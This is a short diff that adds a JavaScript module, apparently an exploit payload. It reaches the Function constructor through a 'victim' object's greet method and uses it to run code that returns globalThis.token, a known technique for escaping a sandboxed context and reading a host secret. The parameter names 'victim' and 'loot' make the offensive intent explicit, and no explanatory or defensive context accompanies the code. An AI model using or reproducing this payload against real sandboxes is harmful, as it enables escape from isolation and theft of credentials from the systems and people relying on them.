@@ -1,0 +1,4 @@
+module.exports = (victim, loot) => {
+  const C = victim.greet.constructor;
+  return new C('return globalThis.token')();
+};
